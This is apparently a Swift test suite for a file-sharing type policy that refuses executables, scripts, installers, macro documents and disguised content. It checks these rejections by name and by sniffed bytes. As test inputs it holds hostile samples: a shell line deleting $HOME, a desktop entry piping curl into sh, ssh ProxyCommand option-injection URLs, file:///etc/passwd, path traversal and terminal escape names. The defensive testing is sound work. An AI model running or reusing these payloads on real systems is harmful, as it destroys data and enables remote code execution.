import Foundation
import System
import Testing

@testable import UniformTypes

@Suite("Type policy")
struct TypePolicyTests {
  static let registry = TypeRegistry.system()
  static let policy = Result { try TypePolicy(registry: registry, declarations: .builtinDefault) }
  static let sniffer = Result { try ContentSniffer() }

  func content(_ type: TypeIdentifier, _ description: String = "", empty: Bool = false) -> ContentType {
    ContentType(type: type, mimeType: "x/y", magicDescription: description, isEmpty: empty)
  }

  @Test("reasons name the kind in words, and the item, as the issue's examples do")
  func reasonWording() throws {
    let policy = try Self.policy.get()
    let elf = policy.judge(name: "cat.png", content: content(.unixExecutable, "ELF 64-bit LSB pie executable, x86-64"))
    #expect(
      elf.reason
        == "rejected: does not accept executables: cat.png is a Unix executable (ELF), not a PNG image [ELF 64-bit LSB pie executable]"
    )
    #expect(elf.rule == .excludedContent && elf.decidedBy == "public.executable")
    let script = policy.judge(name: "setup.sh", kind: .file)
    #expect(script.reason == "rejected: does not accept scripts: setup.sh is named as a shell script")
    let accepted = policy.judge(name: "photo.png", content: content("public.png", "PNG image data, 2 x 2"))
    #expect(accepted.reason == "accepted: PNG image (\"Images\")")
    #expect(accepted.decidedBy == "Images" && accepted.match == .same)
    let pdf = policy.judge(name: "paper.png", content: content("com.adobe.pdf", "PDF document, version 1.4"))
    #expect(pdf.accepted && pdf.type == "com.adobe.pdf" && pdf.match == nil)
    #expect(pdf.reason == "accepted: PDF document (\"PDF documents\"), though its name says PNG image")
    let images = try TypePolicy(
      registry: Self.registry,
      declarations: Declarations(documentTypes: [DocumentType(name: "Images", contentTypes: [.image])], source: "t"))
    #expect(images.judge(name: "big.iso", kind: .file).reason == "rejected: does not accept ISO disk images (big.iso)")
  }

  @Test("with the receiver's name, a refusal is its own sentence: 'lab-b does not accept disk images (big.iso)'")
  func reasonsNameTheReceiver() throws {
    var strict = try TypePolicy(
      registry: Self.registry,
      declarations: Declarations(
        documentTypes: [DocumentType(name: "Images", contentTypes: [.image])], excludedTypes: [.executable, "public.iso-image"],
        source: "t"))
    strict.receiverName = "lab-b"
    #expect(strict.judge(name: "big.iso", kind: .file).reason == "lab-b does not accept ISO disk images (big.iso)")
    #expect(strict.judge(name: "notes.pdf", kind: .file).reason == "lab-b does not accept PDF documents (notes.pdf)")
    #expect(
      strict.judge(name: "run.exe", kind: .file).reason == "lab-b does not accept executables: run.exe is named as a Windows executable")
    let iso = content("public.iso-image", "ISO 9660 CD-ROM filesystem data")
    #expect(
      strict.judge(name: "big.iso", content: iso).reason
        == "lab-b does not accept ISO disk images: big.iso is an ISO disk image [ISO 9660 CD-ROM filesystem data]")
    let elf = strict.judge(name: "cat.png", content: content(.unixExecutable, "ELF 64-bit LSB pie executable"))
    #expect(
      elf.reason == "lab-b does not accept executables: cat.png is a Unix executable (ELF), not a PNG image [ELF 64-bit LSB pie executable]"
    )
    // A name from the network cannot break the line or reach the terminal raw.
    strict.receiverName = "evil\n\u{1B}[2Jb"
    let reason = strict.judge(name: "big\niso\u{1B}.iso", kind: .file).reason
    #expect(!reason.unicodeScalars.contains { $0.value < 0x20 || $0.value == 0x7F }, "\(reason.debugDescription)")
  }

  @Test("a content that acts when opened under a harmless name is a disguise, even for a receiver that accepts everything")
  func disguise() throws {
    let everything = try TypePolicy(
      registry: Self.registry,
      declarations: Declarations(documentTypes: [DocumentType(name: "All", contentTypes: [.item])], source: "t"))
    let elf = everything.judge(name: "cat.png", content: content(.unixExecutable, "ELF 64-bit LSB pie executable"))
    #expect(!elf.accepted && elf.rule == .typeMismatch)
    #expect(
      elf.reason == "rejected: does not accept a Unix executable (ELF) disguised as a PNG image (cat.png) [ELF 64-bit LSB pie executable]")
    // Named for what it is, or not named at all, it is no disguise.
    #expect(everything.judge(name: "tool", content: content(.unixExecutable)).accepted)
    #expect(everything.reconcile(name: "public.png", content: content("com.adobe.pdf")) == .contentDecides(type: "com.adobe.pdf"))
    #expect(everything.reconcile(name: "public.png", content: content(.desktopEntry)) == .disguise)
  }

  @Test("plurals and articles of type descriptions")
  func wording() {
    #expect(Wording.plural("disk image") == "disk images")
    #expect(Wording.plural("Unix executable (ELF)") == "Unix executables (ELF)")
    #expect(Wording.plural("desktop entry") == "desktop entries")
    #expect(Wording.plural("plain text") == "plain text")
    #expect(Wording.plural("application/x-foo") == "application/x-foo files")
    #expect(Wording.withArticle("PNG image") == "a PNG image")
    #expect(Wording.withArticle("OpenType font") == "an OpenType font")
    #expect(Wording.withArticle("HTML application (HTA)") == "an HTML application (HTA)")
    #expect(Wording.withArticle("X.509 certificate") == "an X.509 certificate")
    #expect(Wording.withArticle("Unix executable (ELF)") == "a Unix executable (ELF)")
    #expect(Wording.withArticle("Python bytecode") == "Python bytecode")
  }

  @Test("folders, URLs and text snippets are typed by their kind")
  func kinds() throws {
    let policy = try Self.policy.get()
    let folder = policy.judge(name: "Holiday.png", kind: .folder)
    #expect(folder.accepted && folder.type == .folder && folder.decidedBy == "Folders")
    let url = policy.judge(name: "https://example.org/a.sh", kind: .url)
    #expect(url.accepted && url.type == .url && url.decidedBy == "Links")
    let text = policy.judge(name: "snippet", kind: .text)
    #expect(text.accepted && text.type == .utf8PlainText)
  }

  @Test("a folder kind is rejected when the declarations do not accept public.folder")
  func foldersNeedAcceptance() throws {
    let policy = try TypePolicy(
      registry: Self.registry,
      declarations: Declarations(documentTypes: [DocumentType(name: "Images", contentTypes: [.image])], source: "t"))
    #expect(!policy.judge(name: "dir", kind: .folder).accepted)
    #expect(policy.judge(name: "dir", kind: .folder).rule == .notAccepted)
  }

  @Test("at Ask time, a name that gives no type is accepted pending its content, and excluded names cost no bytes")
  func nameStage() throws {
    let images = try TypePolicy(
      registry: Self.registry,
      declarations: Declarations(documentTypes: [DocumentType(name: "Images", contentTypes: [.image])], source: "t"))
    let unknown = images.judge(name: "blob", kind: .file)
    #expect(unknown.accepted && unknown.rule == .pendingContent && unknown.stage == .name)
    let policy = try Self.policy.get()
    let script = policy.judge(name: "setup.sh", kind: .file)
    #expect(!script.accepted && script.rule == .excludedName && script.decidedBy == "public.script")
    // The default accepts unnamed data ("Other files") and disk images.
    #expect(policy.judge(name: "blob", kind: .file).decidedBy == "Other files")
    #expect(policy.judge(name: "disk.iso", kind: .file).decidedBy == "Disk images")
  }

  @Test(
    "at Ask time, macro carriers, launchers, scripts and installers are refused by name, in their family",
    arguments: [
      ("slides.sldm", "com.microsoft.office.macro-enabled"), ("addin.xla", "com.microsoft.office.macro-enabled"),
      ("macros.xlm", "com.microsoft.office.macro-enabled"), ("addin.ppa", "com.microsoft.office.macro-enabled"),
      ("sheet.slk", "com.microsoft.office.macro-enabled"), ("prices.iqy", "com.microsoft.office.macro-enabled"),
      ("db.mde", "com.microsoft.office.macro-enabled"), ("db.accde", "com.microsoft.office.macro-enabled"),
      ("project.ade", "com.microsoft.office.macro-enabled"), ("project.adp", "com.microsoft.office.macro-enabled"),
      ("deck.ppsm", "com.microsoft.office.macro-enabled"),
      ("launch.jnlp", "public.executable"), ("console.msc", "public.executable"), ("x.settingcontent-ms", "public.executable"),
      ("Docs.library-ms", "public.executable"), ("find.search-ms", "public.executable"), ("addin.wll", "public.executable"),
      ("tool.tcl", "public.script"), ("clock.gadget", "public.installer-package"), ("install.ymp", "public.installer-package"),
      ("addon.xpi", "public.installer-package"), ("clock.plasmoid", "public.installer-package"),
      ("tiling.kwinscript", "public.installer-package"), ("tool-1.0-1-x86_64.pkg.tar.zst", "public.installer-package"),
      // Outside review of the default: siblings of kinds that were already refused.
      ("app.pyzw", "public.script"), ("App.msixbundle", "public.installer-package"),
      ("App.appxbundle", "public.installer-package"), ("App.msix", "public.installer-package"),
      ("App.appinstaller", "public.installer-package"), ("app.apks", "public.installer-package"),
      ("App.ipa", "public.installer-package"), ("ext.vsix", "public.installer-package"), ("ext.oxt", "public.installer-package"),
      ("ext.crx", "public.installer-package"), ("tool-1.0-py3-none-any.whl", "public.installer-package"),
      ("tool-1.0.egg", "public.installer-package"), ("tool-1.0.gem", "public.installer-package"),
      ("Tool.1.0.nupkg", "public.installer-package"), ("tool_1.0_all.ipk", "public.installer-package"),
      ("fix.mst", "public.installer-package"), ("setup.msi", "public.installer-package"), ("console.psc1", "public.script"),
      ("run.msh", "public.script"), ("types.ps1xml", "public.script"), ("job.ws", "public.script"),
      ("app.xbap", "public.installer-package"),
      ("widget.jsx", "public.script"), ("hello.applescript", "public.script"), ("hello.scpt", "public.executable"),
      ("fix.diagcab", "public.executable"), ("driver.inf", "public.script"), ("proxy.ins", "public.script"),
      ("dialup.isp", "public.script"), ("note.shb", "public.executable"), ("clip.shs", "public.executable"),
      ("office.rdp", "public.executable"), ("wifi.mobileconfig", "public.installer-package"), ("old.hlp", "public.executable"),
      ("fix.diagcfg", "public.executable"), ("fix.diagpkg", "public.executable"), ("form.xsn", "public.executable"),
      ("outlook.prf", "public.script"), ("desktop.ica", "public.executable"), ("sandbox.wsb", "public.executable"),
    ] as [(String, String)])
  func refusedByName(name: String, family: String) throws {
    let verdict = try Self.policy.get().judge(name: name, kind: .file)
    #expect(!verdict.accepted && verdict.rule == .excludedName && verdict.decidedBy == family, "\(name): \(verdict.reason)")
  }

  @Test(
    "at Ask time, the everyday neighbours of those kinds stay accepted",
    arguments: [
      ("table.xlsx", "Office documents"), ("slides.pptx", "Office documents"), ("old.xls", "Office documents"),
      ("old.ppt", "Office documents"), ("old.doc", "Office documents"), ("backup.tar.zst", "Archives"), ("files.zip", "Archives"),
      ("pkg.tar.zst", "Archives"), ("Roboto.ttf", "Fonts"), ("debian.iso", "Disk images"), ("notes.txt", "Text"),
      ("backup.tar.gz", "Archives"), ("report.docx", "Office documents"), ("paper.pdf", "PDF documents"),
      ("clip.mp4", "Video"), ("photos.7z", "Archives"), ("notebook.one", "Other documents"), ("app.ts", "Text"),
      // Review 37: read, never run (a Spanish translation, Perl's documentation, Python's stubs).
      ("README.es", "Text"), ("tutor.es", "Text"), ("Foo.pod", "Text"), ("geometry.pyi", "Text"),
    ] as [(String, String)])
  func everydayNeighboursAccepted(name: String, documentType: String) throws {
    let verdict = try Self.policy.get().judge(name: name, kind: .file)
    #expect(verdict.accepted && verdict.decidedBy == documentType, "\(name): \(verdict.reason)")
  }

  @Test("a .ts that is MPEG transport stream video is accepted as video, and TypeScript as text: .ts is not refused")
  func transportStreamNamedTS() throws {
    let policy = try Self.policy.get()
    let sniffer = try Self.sniffer.get()
    let video = policy.check(name: "clip.ts", head: SampleBytes.mpegTS, sniffer: sniffer).verdict
    #expect(video.accepted && video.decidedBy == "Video" && video.type == "dyn.mime.video/mp2t", "\(video.reason)")
    let source = policy.check(name: "app.ts", head: SampleBytes.utf8("export const x: number = 1;\n"), sniffer: sniffer).verdict
    #expect(source.accepted && source.decidedBy == "Text", "\(source.reason)")
  }

  @Test(
    "name and content reconcile by the documented rules",
    arguments: [
      ("a.png", "public.png", Verdict.Match.same, "public.png"),
      ("a.txt", "public.shell-script", .contentRefinesName, "public.shell-script"),
      ("noext", "public.plain-text", .contentRefinesName, "public.plain-text"),
      ("a.md", "public.plain-text", .nameRefinesContent, "net.daringfireball.markdown"),
      ("a.csv", "public.plain-text", .textFamily, "public.comma-separated-values-text"),
      ("a.tar.gz", "org.gnu.gnu-zip-archive", .nameRefinesContent, "org.gnu.gnu-zip-tar-archive"),
      ("a.doc", "com.microsoft.compound-document", .nameRefinesContent, "com.microsoft.word.doc"),
      ("a.docx", "org.openxmlformats.openxml", .nameRefinesContent, "org.openxmlformats.wordprocessingml.document"),
      ("a.html", "public.c-source", .textFamily, "public.html"),
      ("a.csv", "public.python-script", .textFamily, "public.python-script"),
      ("a.txt", "public.rtf", .textFamily, "public.rtf"),
      ("a.jpg", "public.png", .mediaFamily, "public.png"),
      ("a.mp3", "public.mpeg-4", .mediaFamily, "public.mpeg-4"),
    ] as [(String, TypeIdentifier, Verdict.Match, TypeIdentifier)])
  func agreements(name: String, contentType: TypeIdentifier, match: Verdict.Match, type: TypeIdentifier) throws {
    let policy = try Self.policy.get()
    let result = policy.agreement(name: Self.registry.type(forFilename: name), content: content(contentType))
    #expect(result?.0 == type)
    #expect(result?.1 == match)
  }

  @Test(
    "names and contents that do not agree are mismatches",
    arguments: [
      ("a.png", "com.adobe.pdf"), ("a.png", "public.data"), ("a.txt", "public.data"), ("a.docx", "public.zip-archive"),
      ("a.tar.gz", "public.tar-archive"), ("a.pdf", "public.plain-text"), ("a.zip", "public.png"), ("a.mp3", "public.png"),
      ("a.svg", "public.data"), ("a.deb", "public.zip-archive"),
    ] as [(String, TypeIdentifier)])
  func mismatches(name: String, contentType: TypeIdentifier) throws {
    let policy = try Self.policy.get()
    #expect(policy.agreement(name: Self.registry.type(forFilename: name), content: content(contentType)) == nil)
  }

  @Test("exclusion wins over every agreement: content first, then name")
  func exclusionFirst() throws {
    let policy = try Self.policy.get()
    // A .desktop whose content looks like plain text: excluded by its name.
    let byName = policy.judge(name: "launch.desktop", content: content(.plainText))
    #expect(!byName.accepted && byName.rule == .excludedName)
    // A .txt whose content is a desktop entry: excluded by content.
    let byContent = policy.judge(name: "photos.txt", content: content(.desktopEntry))
    #expect(!byContent.accepted && byContent.rule == .excludedContent)
    // Empty content never counts as excluded content, but an excluded name still is.
    let emptyScript = policy.judge(name: "x.sh", content: content(.data, empty: true))
    #expect(!emptyScript.accepted && emptyScript.rule == .excludedName)
  }

  @Test("what the name stage rejects, the content stage rejects too")
  func stagesAreConsistent() throws {
    let policy = try TypePolicy(
      registry: Self.registry,
      declarations: Declarations(documentTypes: [DocumentType(name: "PNG", contentTypes: ["public.png"])], source: "t"))
    #expect(!policy.judge(name: "a.jpg", kind: .file).accepted)
    let verdict = policy.judge(name: "a.jpg", content: content("public.png"))
    #expect(!verdict.accepted && verdict.rule == .notAccepted)
  }

  @Test("hostile names produce reasons without control characters, of bounded length")
  func hostileNames() throws {
    let policy = try Self.policy.get()
    let sniffer = try Self.sniffer.get()
    let names = [
      "evil\u{1B}[31m\u{7}.sh", "x\u{202E}gnp.exe", "\u{0}", String(repeating: "\u{1B}", count: 10_000),
      "a.\u{1B}]0;pwned\u{7}", "../../etc/passwd", String(repeating: "x", count: 200_000),
    ]
    for name in names {
      for verdict in [
        policy.judge(name: name, kind: .file), policy.judge(name: name, head: try SampleBytes.elf(), sniffer: sniffer),
        policy.judge(name: name, head: SampleBytes.utf8("hello\n"), sniffer: sniffer),
      ] {
        #expect(!verdict.reason.unicodeScalars.contains { $0.value < 0x20 || (0x7F...0x9F).contains($0.value) || $0 == "\u{202E}" })
        #expect(verdict.reason.count < 800)
      }
    }
  }

  @Test("text snippets must be UTF-8 without NUL; a sequence cut by the head's end is allowed when more follows")
  func textItems() throws {
    let policy = try Self.policy.get()
    let sniffer = try Self.sniffer.get()
    #expect(policy.judge(name: "t", kind: .text, head: SampleBytes.utf8("héllo"), sniffer: sniffer).accepted)
    let invalid = policy.judge(name: "t", kind: .text, head: [0x68, 0xFF, 0x69], sniffer: sniffer)
    #expect(!invalid.accepted && invalid.rule == .invalidText)
    #expect(!policy.judge(name: "t", kind: .text, head: [0x68, 0, 0x69], sniffer: sniffer).accepted)
    let cut = Array(SampleBytes.utf8("hé").dropLast())  // "h" + first byte of "é"
    #expect(!policy.judge(name: "t", kind: .text, head: cut, totalSize: Int64(cut.count), sniffer: sniffer).accepted)
    #expect(policy.judge(name: "t", kind: .text, head: cut, totalSize: 100, sniffer: sniffer).accepted)
  }

  /// Found by review 13: one NUL byte after a desktop entry made it "data", and it was stored.
  @Test func aDesktopEntryFollowedByNULBytesIsRefusedUnderAnyName() throws {
    let policy = try Self.policy.get()
    let sniffer = try Self.sniffer.get()
    for tail: [UInt8] in [[0], Array(repeating: 0, count: 3000), (0..<3000).map { UInt8(truncatingIfNeeded: $0 &* 7) }] {
      let head = Array("[Desktop Entry]\nType=Application\nExec=xterm\n".utf8) + tail
      let verdict = policy.judge(name: "notes.txt", head: head, sniffer: sniffer)
      #expect(!verdict.accepted && verdict.type == .desktopEntry, "\(tail.count) bytes after: \(verdict.reason)")
    }
  }

  /// Found by review 15: a 70,000-byte comment line put the group past the 64 KiB head, and the
  /// file was accepted as text; so is a stream of unknown size whose full head holds comments only.
  @Test func aFileWhoseFirstGroupLiesPastTheHeadIsRefusedAsAPossibleDesktopEntry() throws {
    let policy = try Self.policy.get()
    let sniffer = try Self.sniffer.get()
    let file = Array(("#" + String(repeating: "a", count: 70_000) + "\n[Desktop Entry]\nType=Application\nExec=id\n").utf8)
    let head = Array(file.prefix(ContentSniffer.headLength))
    for size in [Int64(file.count), nil] {
      let verdict = policy.judge(name: "big.txt", head: head, totalSize: size, sniffer: sniffer)
      #expect(!verdict.accepted && verdict.type == .desktopEntry && verdict.rule == .excludedContent, "\(verdict.reason)")
      #expect(verdict.reason.hasSuffix("[text whose first group lies beyond the part share reads]"), "\(verdict.reason)")
    }
    let notes = Array(String(repeating: "# only comments\n", count: 100).utf8)
    #expect(policy.judge(name: "notes.txt", head: notes, totalSize: Int64(notes.count), sniffer: sniffer).accepted)
  }

  @Test(
    "a text snippet is refused on its content as a .txt file of the same bytes is, with the same reason",
    arguments: [
      ("#!/bin/sh\nrm -rf \"$HOME\"\n", "public.shell-script", "public.script"),
      ("#!/usr/bin/env python3\nprint('hi')\n", "public.python-script", "public.script"),
      (
        "[Desktop Entry]\nType=Application\nName=Photos\nExec=sh -c 'curl x | sh'\n", "org.freedesktop.desktop-entry",
        "org.freedesktop.desktop-entry"
      ),
      ("[Flatpak Ref]\nName=org.example.App\nUrl=https://example.org/repo\n", "org.flatpak.flatpakref", "public.installer-package"),
    ] as [(String, String, String)])
  func textSnippetsAreJudgedOnTheirContent(text: String, type: String, family: String) throws {
    let policy = try Self.policy.get()
    let sniffer = try Self.sniffer.get()
    let snippet = policy.judge(name: "x.desktop", kind: .text, head: SampleBytes.utf8(text), sniffer: sniffer)
    let file = policy.judge(name: "x.desktop.txt", head: SampleBytes.utf8(text), sniffer: sniffer)
    #expect(!snippet.accepted && snippet.rule == .excludedContent && snippet.rule == file.rule, "\(snippet.reason)")
    #expect(
      snippet.type == TypeIdentifier(type) && snippet.type == file.type && snippet.decidedBy == family
        && snippet.decidedBy == file.decidedBy)
    #expect(snippet.reason == file.reason.replacingOccurrences(of: "x.desktop.txt", with: "the text snippet"), "\(snippet.reason)")
    #expect(snippet.remedy == file.remedy)
  }

  @Test("a text snippet of prose, code without #!, Markdown or JSON stays accepted as text")
  func everydaySnippetsStayAccepted() throws {
    let policy = try Self.policy.get()
    let sniffer = try Self.sniffer.get()
    for text in ["see you at 6\n", "import os\nprint(os.getcwd())\n", "# Notes\n\n- milk\n", "{\"a\": 1}\n", "sh", "#"] {
      let verdict = policy.judge(name: "note", kind: .text, head: SampleBytes.utf8(text), sniffer: sniffer)
      #expect(
        verdict.accepted && verdict.type == .utf8PlainText && verdict.decidedBy == "Text", "\(text.debugDescription): \(verdict.reason)")
    }
  }

  /// Found by an outside review: random bytes (an encrypted container) whose first bytes read
  /// as an x86 jump or move were refused as Windows programs (libmagic's DOS COM guess).
  @Test func randomBytesLibmagicGuessesAreADOSCOMProgramAreData() throws {
    let policy = try Self.policy.get()
    let sniffer = try Self.sniffer.get()
    for start: [UInt8] in [[0xEB, 0x5E, 0x1C, 0xD1, 0x3E, 0x09, 0x74, 0x93], [0xB8, 0x9E, 0x91, 0x4D, 0xD5, 0x84, 0x12, 0xE3]] {
      let head = start + SampleBytes.random(count: 4088, seed: 7)
      try #require(try sniffer.sniff(head).mimeType == "application/x-dosexec", "libmagic no longer guesses COM here")
      for name in ["vault.hc", "f3.bin", "backup.7z"] {
        let verdict = policy.judge(name: name, kind: .file, head: head, sniffer: sniffer)
        #expect(verdict.accepted, "\(name): \(verdict.reason)")
      }
    }
    let program = policy.judge(name: "setup.bin", kind: .file, head: SampleBytes.exe, sniffer: sniffer)
    #expect(!program.accepted, "an MZ program is still one")
  }

  /// Found by review 15: /bin/true with its byte-order byte (EI_DATA) set to 0, 2, 3 or 0xFF
  /// still runs, libmagic calls it application/octet-stream, and it was accepted as a photo.
  @Test func anELFLibmagicCallsDataIsRefusedAsAnExecutableUnderAnyName() throws {
    let policy = try Self.policy.get()
    let sniffer = try Self.sniffer.get()
    for order: UInt8 in [0, 2, 3, 0xFF] {
      var head = Array(try SampleBytes.elf().prefix(ContentSniffer.headLength))
      head[5] = order
      try #require(try sniffer.sniff(head).mimeType == "application/octet-stream", "libmagic now knows EI_DATA \(order)")
      for name in ["holiday.jpg", "notes.txt", "data.bin", "tool"] {
        let verdict = policy.judge(name: name, kind: .file, head: head, totalSize: 1 << 20, sniffer: sniffer)
        #expect(
          !verdict.accepted && verdict.type == .unixExecutable && verdict.rule == .excludedContent,
          "EI_DATA \(order), \(name): \(verdict.reason)")
      }
    }
  }

  /// Found by review 15: legacy Office documents were accepted whatever their directory held.
  @Test func aLegacyOfficeDocumentWithMacrosIsRefusedAndAPlainOneAccepted() throws {
    let policy = try Self.policy.get()
    let sniffer = try Self.sniffer.get()
    for (name, stream) in [("report.doc", "WordDocument"), ("budget.xls", "Workbook")] {
      let plain = SampleBytes.compoundFile([(stream, 2)])
      let verdict = policy.judge(name: name, head: plain, totalSize: Int64(plain.count), sniffer: sniffer)
      #expect(verdict.accepted && verdict.decidedBy == "Office documents", "\(verdict.reason)")
      for storage in ["Macros", "_VBA_PROJECT_CUR"] {
        let macros = SampleBytes.compoundFile([(stream, 2), (storage, 1)])
        let refused = policy.judge(name: name, head: macros, totalSize: Int64(macros.count), sniffer: sniffer)
        #expect(!refused.accepted && refused.type == .macroEnabled && refused.rule == .excludedContent, "\(refused.reason)")
      }
    }
  }

  @Test("URL items must be one URL with a scheme")
  func urlItems() throws {
    let policy = try Self.policy.get()
    let sniffer = try Self.sniffer.get()
    // Blanks and line breaks around it are tolerated on both sides (older senders sent them).
    let good = [
      "https://example.org/a?b=c\n", "mailto:a@example.org", "HTTPS://EXAMPLE.ORG", "geo:48.85,2.35",
      "  https://example.org  ", "https://example.org\r\n", "wss://example.org/socket", "bitcoin:bc1qxyz",
      "https://my-host.example/-x?-y#-z", "ssh://git@host-1:22/repo", "mailto:-a@example.org",
    ]
    for good in good {
      #expect(policy.judge(name: "u", kind: .url, head: SampleBytes.utf8(good), sniffer: sniffer).accepted, "\(good.debugDescription)")
    }
    // Found by an outside review: blanks around it passed here and failed once stored, and
    // `javascript:` and `file:` were stored as .url files (opened with a click).
    let bad = [
      "example.org", "https://a b", "://x", "java script:x", "https://a\u{1B}b", "", "  ", "https://a\nhttps://b",
      "https://a\u{200B}b", "javascript:alert(1)", "file:///etc/passwd", "data:text/html,x",
      "ms-msdt:/id", "search-ms:query=x", "vbscript:x", "1http://x",
      // Review 37: a host or user an ssh or git handler reads as an option (CVE-2017-1000117).
      "ssh://-oProxyCommand=touch%20x/", "git://-x/", "ssh://-lroot@host", "ssh://user@-oProxyCommand=x",
      "ssh://%2DoProxyCommand=x/", "sftp://h:-1/", "ssh://[-x]/",
    ]
    for bad in bad {
      #expect(!policy.judge(name: "u", kind: .url, head: SampleBytes.utf8(bad), sniffer: sniffer).accepted, "\(bad.debugDescription)")
      #expect(URLItemRule.problem(with: bad) != nil, "\(bad.debugDescription)")
    }
  }

  @Test("an item with bytes but an empty head cannot be judged and is rejected")
  func emptyHeadWithSize() throws {
    let policy = try Self.policy.get()
    let verdict = policy.judge(name: "a.png", head: [], totalSize: 10, sniffer: try Self.sniffer.get())
    #expect(!verdict.accepted && verdict.rule == .contentUnreadable)
  }

  @Test("show: a type's chain, tags, and what the declarations say about it")
  func typeReport() throws {
    let policy = try Self.policy.get()
    let jpeg = try #require(policy.report(for: "public.jpeg"))
    #expect(jpeg.ancestors == ["public.image", "public.data", "public.content", "public.item"])
    #expect(jpeg.filenameExtensions.contains("jpg") && jpeg.mimeTypes.first == "image/jpeg")
    #expect(jpeg.acceptedBy == "Images" && jpeg.excludedBy == nil && jpeg.origin == .builtin)
    let script = try #require(policy.report(for: "public.python-script"))
    #expect(script.excludedBy == "public.script")
    #expect(policy.report(for: "dyn.mime.image/png")?.identifier == "public.png")
    #expect(policy.report(for: "com.example.nothing") == nil)
  }

  @Test("effective declarations report where they came from and what they accept and exclude")
  func declarationsReport() throws {
    let report = try Self.policy.get().declarationsReport
    #expect(report.source == "built-in default")
    #expect(report.acceptedTypes.contains(.image) && report.excludedTypes.contains(.executable))
    #expect(report.mimeDirectory == "/usr/share/mime")
    let encoder = JSONEncoder()
    encoder.keyEncodingStrategy = .convertToSnakeCase
    let json = String(decoding: try encoder.encode(report), as: UTF8.self)
    #expect(json.contains("\"accepted_types\"") && json.contains("\"document_types\""))
  }

  @Test("check: a folder on disk is judged as a folder; what is neither file nor folder is an error")
  func checkPaths() throws {
    let policy = try Self.policy.get()
    let sniffer = try Self.sniffer.get()
    let directory = FileManager.default.temporaryDirectory.appendingPathComponent("share-check-\(UUID().uuidString)")
    try FileManager.default.createDirectory(at: directory, withIntermediateDirectories: true)
    defer { try? FileManager.default.removeItem(at: directory) }
    let report = try policy.check(path: directory.path, sniffer: sniffer)
    #expect(report.kind == .folder && report.verdict.accepted && report.content == nil)
    let fifo = directory.appendingPathComponent("pipe").path
    #expect(mkfifo(fifo, 0o600) == 0)
    #expect(throws: FileReadError(path: fifo, function: "type", errno: nil)) {
      _ = try policy.check(path: fifo, sniffer: sniffer)
    }
    let missing = directory.appendingPathComponent("missing").path
    #expect(throws: FileReadError(path: missing, function: "open", errno: .noSuchFileOrDirectory)) {
      _ = try policy.check(path: missing, sniffer: sniffer)
    }
  }

  @Test("check reports name type, content and both verdicts, and encodes to snake_case JSON")
  func checkReport() throws {
    let policy = try Self.policy.get()
    let report = policy.check(name: "cat.png", head: try SampleBytes.elf(), sniffer: try Self.sniffer.get())
    #expect(report.nameType == "public.png" && report.nameVerdict.accepted)
    #expect(report.content?.type == .unixExecutable && !report.verdict.accepted)
    let encoder = JSONEncoder()
    encoder.keyEncodingStrategy = .convertToSnakeCase
    let json = String(decoding: try encoder.encode(report), as: UTF8.self)
    for key in ["\"name_type\"", "\"name_verdict\"", "\"content_type\"", "\"decided_by\"", "\"magic_description\""] {
      #expect(json.contains(key), "\(key)")
    }
  }

  /// Review 22: a Tcl module (`.tm`, what `package require` loads) and a Perl header (`.ph`, what
  /// `require` runs) were accepted as text.
  @Test(arguments: ["shell-1.1.4.tm", "sys/ioctl.ph"])
  func codeLoadedByAnInterpreterIsAScriptByName(_ name: String) throws {
    let verdict = try Self.policy.get().judge(name: name, kind: .file)
    #expect(!verdict.accepted && verdict.rule == .excludedName && verdict.decidedBy == "public.script", "\(verdict)")
  }

  /// Review 23: AutoIt and AutoHotkey scripts were accepted as text, compiled AutoIt as data.
  @Test(arguments: [("tool.au3", "public.script"), ("tool.ahk", "public.script"), ("tool.a3x", "public.executable")])
  func windowsAutomationScriptsAreRefusedByName(_ name: String, _ decidedBy: String) throws {
    let verdict = try Self.policy.get().judge(name: name, kind: .file)
    #expect(!verdict.accepted && verdict.rule == .excludedName && verdict.decidedBy == decidedBy, "\(verdict)")
  }

  /// Review 37: a reason called `Q3 budget\draft.sh` "draft.sh", the part its type is read from.
  @Test func aReasonNamesTheItemAsItIsCalledBackslashesAndAll() throws {
    let verdict = try Self.policy.get().judge(name: #"Q3 budget\draft.sh"#, kind: .file)
    #expect(!verdict.accepted && verdict.reason.contains(#"Q3 budget\\draft.sh is named as"#), "\(verdict.reason)")
  }
}
